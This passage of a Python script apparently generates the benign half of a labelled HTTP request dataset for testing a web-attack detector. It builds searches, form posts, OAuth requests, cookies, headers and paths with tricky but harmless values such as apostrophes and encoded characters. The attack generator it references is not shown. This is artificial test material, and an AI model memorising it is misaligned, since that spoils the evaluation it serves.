    ("filter[name]", "O'Brien"), ("sort", "-created_at"), ("fields[users]", "name,email,title"),
    ("q[name_cont]", "O'Neil"), ("$filter", "startswith(name,'O''B') and active eq true"), ("$top", "50"),
    ("$orderby", "last_name desc"), ("utm_source", "newsletter"), ("utm_campaign", "summer_sale-2024"),
    ("tags[]", "on-call"), ("include", "team.members"), ("page[size]", "25"), ("page[number]", "2"),
    ("filter[created_at][gte]", "2024-01-01"), ("user[address][city]", "Zürich"), ("ids[]", "42"),
    ("search[value]", "smith & co"), ("columns[0][data]", "name"), ("expand", "manager,department"),
    ("_", "1719000000123"), ("callback_url", "https://app.example.com/cb"), ("locale", "pt-BR"),
    ("x-amz-date", "20240701T120000Z"), ("fbclid", "IwAR2xYz-AbC_123"), ("gclid", "Cj0KCQjw"),
    ("ref", "slack"), ("where[email][like]", "%@example.com"), ("select", "id,name"), ("format", "csv"),
    ("debug", "false"), ("order[name]", "asc"), ("filter[or][0][title]", "VP Sales"),
    ("options[]", "notify"), ("dept", "R&D"), ("since", "2024-06-30T23:59:59+02:00"), ("cursor", "eyJpZCI6NDJ9"),
    ("range", "bytes=0-1023"), ("v", "2"), ("lang", "fr"), ("tz", "Europe/Berlin"),
]
PATHS = [
    "42", "me", "42/avatar.png", "ann.lee%40example.com", "jos%C3%A9.garcia", "o%27brien", "42/teams",
    "Q3%20report%20(final).pdf", "42/files/r%C3%A9sum%C3%A9_2024.pdf", "by-email/ann%40example.com",
    "search/O%27Neil", "42/settings", "00000000-0000-4000-8000-000000000042", "42/roles/admin", "42/sessions",
    "export.csv", "42/notes/2024-07-01", "team/r%26d", "ann-lee", "42;v=2", "42.json", "42/activity?since=7d",
    "42/avatar@2x.png", "handle/%40ann", "42/calendar/2024/07", "42/photos/IMG_2041.HEIC", "42/contacts/+4930123456",
    "42/addresses/home", "42/links/github", "42/badges/100%25-club",
]
XFFS = [
    "203.0.113.7", "203.0.113.7, 10.0.0.2", "2001:db8::1", "198.51.100.3, 2001:db8:85a3::8a2e:370:7334",
    "unknown", "192.0.2.44, 172.16.4.9, 10.1.2.3", "203.0.113.195:41237", "[2001:db8::17]:4711",
    "100.64.0.12", "198.51.100.250, 203.0.113.1", "192.0.2.1,192.0.2.2", "unknown, 10.0.0.8",
    "203.0.113.60, 10.20.30.40, 127.0.0.1", "2001:db8:cafe::17, 198.51.100.9", "192.0.2.128",
]


def _cookie_values(rng: random.Random) -> list[str]:
    consent = urllib.parse.quote(json.dumps({"necessary": True, "analytics": False, "v": 3}, separators=(",", ":")))
    prefs = base64.b64encode(json.dumps({"theme": "dark", "density": "compact"}).encode()).decode()
    return [
        f"cookie_consent={consent}", "theme=dark", f"prefs={prefs}", "recent_search=%22product%20manager%22%20berlin",
        "recent_search=O%27Brien", "lang=de-DE", f"_ga=GA1.2.{rng.randint(10**8, 10**9)}.1719000000",
        "tz=Europe%2FBerlin", "recent_search=R%26D%20%7C%20QA", "sidebar=collapsed",
        "last_view=%2Fadmin%2Fusers%3Fpage%3D3",
        "CookieConsent={stamp:%27-1%27%2Cnecessary:true%2Cpreferences:true%2Cstatistics:false}",
        "ajs_user_id=%2242%22", "recent_search=%22select%20committee%22",
        "OptanonConsent=isGDPRApplies=true&datestamp=Mon"
        "+Jul+01+2024", "remember_device=1", "_fbp=fb.1.1719000000000.123456789", "ph_distinct_id=ann%40example.com",
        "recent_search=node.js%20AND%20react", "announcement_dismissed=2024-07-01",
    ]


def benign() -> Iterator[dict[str, Any]]:
    rng = random.Random(f"{NAME}-benign")
    n = yield from chat_and_bio(CHAT, NAME)

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement, "sub": kind}

    def get(uri: str) -> dict[str, Any]:
        return {"method": "GET", "uri": uri, "body": "", "headers": _headers(rng, "application/json")}

    def search(text: str, i: int) -> dict[str, Any]:
        qs = [("q", text), ("page", str(1 + i % 4)), ("per_page", ("20", "50", "100")[i % 3])]
        if i % 2:
            qs.reverse()
        return get("/api/users?" + urllib.parse.urlencode(qs, quote_via=urllib.parse.quote))

    def admin(text: str) -> dict[str, Any]:
        return {"method": "POST", "uri": "/admin/users/search",
                "body": urllib.parse.urlencode([("csrf_token", _token(rng)), ("q", text)]),
                "headers": {**_headers(rng, content_type="application/x-www-form-urlencoded"),
                            "Origin": "https://app.example.com", "Referer": "https://app.example.com/admin/users"}}

    def profile(doc: dict[str, Any]) -> dict[str, Any]:
        return {"method": "POST", "uri": "/api/users", "body": json.dumps(doc, ensure_ascii=False),
                "headers": _headers(rng, "application/json", "application/json")}

    for i, name in enumerate(NAMES):
        yield rec("search", "query", search(name, i))
        yield rec("adminsearch", "form", admin(name))
        first = name.split(" ")[0]
        yield rec("profile", "json", profile({"name": name, "email": f"{first.lower()}@example.com".replace("'", ""),
                                              "title": "Account Manager"}))
    for i, text in enumerate(SEARCHES):
        yield rec("search", "query", search(text, i))
        yield rec("adminsearch", "form", admin(text))
    for i, addr in enumerate(ADDRESSES):
        yield rec("profile", "json", profile({"name": NAMES[i], "address": addr, "department": "Operations"}))
        yield rec("search", "query", search(addr, i))
    for i, f in enumerate(FILES):
        yield rec("profile", "json", profile({"name": NAMES[-1 - i], "avatar_file": f, "bio": f"see {f}"}))
        yield rec("adminsearch", "form", admin(f))
    for i, url in enumerate(URLS):
        yield rec("profile", "json", profile({"name": NAMES[i], "website": url}))
        yield rec("search", "query", get("/api/users?" + urllib.parse.urlencode(
            [("q", "ann"), ("ref", url)], quote_via=urllib.parse.quote)))
    for i in range(60):
        fields = _oauth_fields(rng)
        kind = i % 4
        if kind == 1:
            fields = [("grant_type", "refresh_token"), ("refresh_token", _token(rng, 32)), ("client_id", "web-console")]
        elif kind == 2:
            fields = [("grant_type", "client_credentials"), ("client_id", f"svc-{_rand_word(rng).lower()}"),
                      ("scope", OAUTH_SCOPES[i % len(OAUTH_SCOPES)])]
        elif kind == 3:
            fields += [("scope", OAUTH_SCOPES[i % len(OAUTH_SCOPES)]),
                       ("redirect_uri", "https://app.example.com/oauth/callback?next=%2Fadmin%2Fusers")]
        yield rec("oauth", "oauth-form", {
            "method": "POST", "uri": "/oauth/token", "body": urllib.parse.urlencode(fields),
            "headers": {"User-Agent": BENIGN_UAS[i % len(BENIGN_UAS)], "Accept": "application/json",
                        "Content-Type": "application/x-www-form-urlencoded"}})
    values = _cookie_values(rng)
    for i in range(60):
        r = get(f"/api/users?page={1 + i % 5}")
        extra = "; ".join(values[(i + k) % len(values)] for k in range(1 + i % 3))
        r["headers"]["Cookie"] += "; " + extra
        yield rec("cookie", "cookie", r)
    for ua in BENIGN_UAS:
        r = get("/api/users?page=1")
        r["headers"]["User-Agent"] = ua
        yield rec("ua", "header:User-Agent", r)
    for i, ref in enumerate(REFERERS * 2):
        r = get(f"/api/users?page={1 + i % 3}" if i % 2 else "/api/users/42")
        r["headers"]["Referer"] = ref
        yield rec("referer", "header:Referer", r)
    for i, xff in enumerate(XFFS * 2):
        r = get(f"/api/users?page={1 + i % 4}")
        r["headers"]["X-Forwarded-For"] = xff
        yield rec("xff", "header:X-Forwarded-For", r)
    for i, (k, v) in enumerate(PARAM_NAMES):
        pair = urllib.parse.urlencode([(k, v)], quote_via=urllib.parse.quote)
        if i % 3 == 2:
            yield rec("paramname", "param-name", {"method": "POST", "uri": "/admin/users/search",
                                                  "body": f"csrf_token={_token(rng)}&{pair}",
                                                  "headers": _headers(rng, content_type="application/x-www-form-"
                                                                                      "urlencoded")})
        else:
            yield rec("paramname", "param-name", get(f"/api/users?{pair}&page=1"))
    for p in PATHS:
        yield rec("path", "path", get("/api/users/" + p))


if __name__ == "__main__":
    print_records(attacks(), benign())
